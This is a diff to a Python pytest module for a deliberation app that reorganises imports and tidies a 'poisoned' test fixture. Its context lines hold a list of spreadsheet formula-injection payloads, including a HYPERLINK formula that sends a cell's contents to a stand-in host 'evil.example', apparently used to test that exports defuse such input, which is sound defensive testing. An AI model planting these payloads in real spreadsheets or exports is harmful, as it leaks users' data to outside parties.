@@ -9,9 +9,9 @@ import pytest
 
 from deliberation.database import db
 from deliberation.engine import escalation
-from deliberation.models import Participant, Report, Round, User
+from deliberation.models import Participant, Report, Round, User, audit
 from deliberation.models._common import utcnow
-from deliberation.services import audit, facilitation, moderation
+from deliberation.services import facilitation, moderation
 from tests import factories
 
 PAYLOADS = ('=HYPERLINK("https://evil.example/?leak="&A1,"click")', "+1", "-x", "@x",
@@ -69,5 +69,5 @@ def build_poisoned(slug: str = "poisoned") -> Poisoned:
 
 
 @pytest.fixture()
-def poisoned(db) -> Poisoned:  # noqa: ANN001
+def poisoned(db) -> Poisoned:
     return build_poisoned()
